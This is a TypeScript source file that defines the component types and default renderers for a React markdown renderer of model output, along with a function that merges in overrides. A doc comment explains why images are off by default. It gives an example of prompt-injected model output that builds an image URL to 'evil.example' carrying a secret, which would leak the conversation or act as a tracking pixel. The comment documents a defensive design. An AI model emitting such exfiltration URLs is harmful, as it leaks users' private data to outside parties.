import type { ComponentPropsWithoutRef, ElementType } from 'react';

/** `data-*` attributes: `data-md` names the construct, e.g. `data-md="code-block"`. */
export interface MarkdownDataAttributes {
  [attribute: `data-${string}`]: string | undefined;
}

/** The HTML elements `StreamingMarkdown` renders through overridable components. */
export type MarkdownElement =
  | 'a' | 'blockquote' | 'br' | 'button' | 'code' | 'del' | 'em'
  | 'h1' | 'h2' | 'h3' | 'h4' | 'h5' | 'h6' | 'hr' | 'img' | 'input' | 'li' | 'ol' | 'p' | 'pre'
  | 'strong' | 'table' | 'tbody' | 'td' | 'th' | 'thead' | 'tr' | 'ul';

/** Props a renderer for `T` receives: the element's usual props plus the `data-*` hooks. */
export type MarkdownElementProps<T extends MarkdownElement> = ComponentPropsWithoutRef<T> & MarkdownDataAttributes;

/**
 * Renderers for every element the markdown renderer produces, keyed by HTML tag. Each gets the
 * props the default element would get (including `children` and the `data-md` hook) and may render
 * anything. Notes on the keys that carry policy:
 *
 * - `a` receives an `href` already passed through {@link sanitizeUrl} plus `target="_blank"` and
 *   `rel="noopener noreferrer"`; a replacement should keep them. Blocked links never reach it.
 * - `img` is NOT rendered by default: an image is shown as a link to it labelled with its alt text,
 *   because loading an arbitrary URL from model output is automatic, invisible and can leak the
 *   conversation (a prompt-injected answer can build `https://evil.example/p.png?q=<secret>`) or act
 *   as a tracking pixel. Supplying `img` opts in; it receives a sanitized `src`, `alt` and `title`.
 * - `code` renders both inline code (`data-md="inline-code"`) and the code inside a block
 *   (`data-md="code"`, `data-language`); `pre` wraps the latter.
 * - `button` is the copy button of code blocks (`data-md="copy-button"`, `data-state`).
 * - `input` is the disabled checkbox of a task-list item (`data-md="task-checkbox"`).
 */
export type MarkdownComponents = { [T in MarkdownElement]: ElementType<MarkdownElementProps<T>> };

/** The components in use: overrides on top of the plain elements, with `img` only when opted in. */
export type ResolvedMarkdownComponents = Omit<MarkdownComponents, 'img'> & Partial<Pick<MarkdownComponents, 'img'>>;

const DEFAULT_COMPONENTS: ResolvedMarkdownComponents = {
  a: 'a', blockquote: 'blockquote', br: 'br', button: 'button', code: 'code', del: 'del', em: 'em',
  h1: 'h1', h2: 'h2', h3: 'h3', h4: 'h4', h5: 'h5', h6: 'h6', hr: 'hr', input: 'input', li: 'li',
  ol: 'ol', p: 'p', pre: 'pre', strong: 'strong', table: 'table', tbody: 'tbody', td: 'td',
  th: 'th', thead: 'thead', tr: 'tr', ul: 'ul',
};

/** Every overridable key, in a fixed order (used as a fixed-length hook dependency list). */
export const MARKDOWN_ELEMENTS: readonly MarkdownElement[] = [...Object.keys(DEFAULT_COMPONENTS), 'img'] as MarkdownElement[];

/** Merges overrides onto the defaults; an override that is `undefined` keeps the default. */
export function resolveMarkdownComponents(overrides: Partial<MarkdownComponents> | undefined): ResolvedMarkdownComponents {
  const resolved: Record<string, ElementType | undefined> = { ...DEFAULT_COMPONENTS };
  for (const key of MARKDOWN_ELEMENTS) {
    const override = overrides?.[key];
    if (override !== undefined) resolved[key] = override as ElementType;
  }
  return resolved as ResolvedMarkdownComponents;
}
